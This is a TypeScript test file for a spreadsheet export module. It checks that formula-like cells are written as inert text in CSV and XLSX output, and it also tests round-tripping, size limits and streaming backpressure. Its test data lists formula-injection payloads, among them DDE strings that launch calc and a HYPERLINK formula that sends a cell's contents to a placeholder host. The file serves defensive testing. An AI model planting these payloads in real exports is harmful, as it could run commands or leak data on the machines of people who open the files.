import { createWriteStream, readFileSync } from "node:fs";
import { join } from "node:path";
import { Writable } from "node:stream";
import { afterAll, describe, expect, it } from "vitest";
import { scratchFolder } from "../../tests/builders/sheets.ts";
import { readRows } from "./read.ts";
import { guardFormula, type OutCell, writeCsv, writeXlsx } from "./write.ts";
import { openZip } from "./zip.ts";

const scratch = scratchFolder();
afterAll(scratch.clear);

const INJECTIONS = [
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(1)",
  "=cmd|'/C calc'!A0",
  '=HYPERLINK("http://x.example?"&A1,"点我")',
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  " =1+1",
  "\u00a0=1+1",
  "\u200b=1+1",
  "\ufeff=1+1",
  "\0=1+1",
  "＝1+1",
  "＋1",
  "－1",
  "＠A1",
  "-2+3+cmd|' /C calc'!D2",
  "+8613800000000",
  '=IMPORTXML("http://x","//a")',
  "@@",
  "−1+1",
  "﹣1",
];
const HARMLESS = ["路灯不亮", "1+1=2", "a=b", "2026-01-05", "张某(示例)", "'=1", "", "#REF!", "100%", "😀=", "a\tb"];

describe("a cell that a spreadsheet program would run is written as text", () => {
  it.each(INJECTIONS.map((text) => [JSON.stringify(text), text]))("%s", (_, text) => {
    expect(guardFormula(text)).toBe(`'${text}`);
  });
  it.each(HARMLESS.map((text) => [JSON.stringify(text), text]))("%s is left alone", (_, text) => {
    expect(guardFormula(text)).toBe(text);
  });

  it("in a CSV no cell begins with a formula, also where a text holds quotes, separators and line breaks", async () => {
    const path = join(scratch.folder, "out.csv");
    const tricky = [...INJECTIONS, '好","=1+1', "好\r\n=1+1,x", "好;=1+1", '"=1+1'];
    const count = await writeCsv(
      createWriteStream(path),
      [{ name: "=列" }, { name: "数" }],
      tricky.map((text) => [text, -5]),
    );
    expect(count).toBe(tricky.length);
    const bytes = readFileSync(path);
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const rows: string[][] = [];
    for await (const row of readRows(path, { headerRow: 0 })) rows.push(row.cells);
    expect(rows.length).toBe(tricky.length + 1);
    for (const [first, second] of rows) {
      expect(first).not.toMatch(/^\s*[=+\-@＝＋－＠]/);
      expect(["数", "-5"]).toContain(second);
    }
    expect(rows[0]?.[0]).toBe("'=列");
    expect(rows.at(-4)?.[0]).toBe('好","=1+1');
  });

  it("in an XLSX it is a text cell and there is no formula element; numbers stay numbers", async () => {
    const cells: OutCell[][] = [...INJECTIONS, ...HARMLESS].map((text) => [text, -5.25, true]);
    const path = scratch.file(
      "out.xlsx",
      await writeXlsx([{ name: "导出[1]", columns: [{ name: "=内容" }, { name: "数" }, { name: "真" }], rows: cells }]),
    );
    const zip = await openZip(path);
    const chunks: Buffer[] = [];
    for await (const chunk of zip.read("xl/worksheets/sheet1.xml")) chunks.push(chunk);
    zip.close();
    const xml = Buffer.concat(chunks).toString();
    expect(xml).not.toMatch(/<f[ >]/);
    expect(xml).toContain("<v>-5.25</v>");
    const rows: string[][] = [];
    for await (const row of readRows(path)) rows.push(row.cells);
    expect(rows[0]).toEqual(["=1+1", "-5.25", "TRUE"]);
    expect(rows.length).toBe(cells.length);
  });
});

describe("what is written can be read again", () => {
  const rows: OutCell[][] = [
    ["𬭚和㘎😀👨‍👩‍👧", 1, null],
    ['两\n行，“引号”"与",逗号', 2.5, "x"],
    [" 空格 ", 0, undefined],
  ];
  it("from CSV and from XLSX alike", async () => {
    const columns = [{ name: "内容" }, { name: "数" }, { name: "备注", width: 40 }];
    const csv = join(scratch.folder, "again.csv");
    await writeCsv(createWriteStream(csv), columns, rows);
    const xlsx = scratch.file("again.xlsx", await writeXlsx([{ name: "一", columns, rows }]));
    for (const path of [csv, xlsx]) {
      const read: string[][] = [];
      for await (const row of readRows(path, { headerRow: 1 })) read.push(row.cells.slice(0, 2));
      expect(read).toEqual([
        ["𬭚和㘎😀👨‍👩‍👧", "1"],
        ['两\n行，“引号”"与",逗号', "2.5"],
        ["空格", "0"],
      ]);
    }
  });

  it("a text beyond Excel's limit is cut without splitting a character", async () => {
    const path = scratch.file(
      "long.xlsx",
      await writeXlsx([
        { name: "一", columns: [{ name: "编号" }, { name: "内容" }], rows: [["1", `${"长".repeat(32_766)}😀尾`]] },
      ]),
    );
    for await (const row of readRows(path, { headerRow: 1 })) expect(row.cells[1]).toBe("长".repeat(32_766));
  });

  it("more than 100,000 rows are refused as XLSX", async () => {
    await expect(
      writeXlsx([{ name: "一", columns: [{ name: "a" }], rows: Array.from({ length: 100_001 }, () => [1]) }]),
    ).rejects.toMatchObject({ code: "sheet.too-many-rows-for-xlsx", facts: { rows: 100_001 } });
  });

  it("a million rows of CSV wait for a slow reader instead of piling up, and a broken one ends the writing", async () => {
    let asked = 0;
    let waiting = 0;
    let most = 0;
    function* rowsOf() {
      for (; asked < 20_000; asked++) yield ["路灯不亮".repeat(20), asked];
    }
    const slow = new Writable({
      highWaterMark: 1024,
      decodeStrings: true,
      write(chunk: Buffer, _, done) {
        waiting += chunk.length;
        most = Math.max(most, asked * 240 - waiting);
        setImmediate(done);
      },
    });
    expect(await writeCsv(slow, [{ name: "内容" }, { name: "数" }], rowsOf())).toBe(20_000);
    expect(most).toBeLessThan(1_000_000);
    asked = 0;
    const broken = new Writable({ write: (_chunk, _encoding, done) => done(new Error("gone")) });
    await expect(writeCsv(broken, [{ name: "内容" }], rowsOf())).rejects.toThrow("gone");
    expect(asked).toBeLessThan(20_000);
  });
});
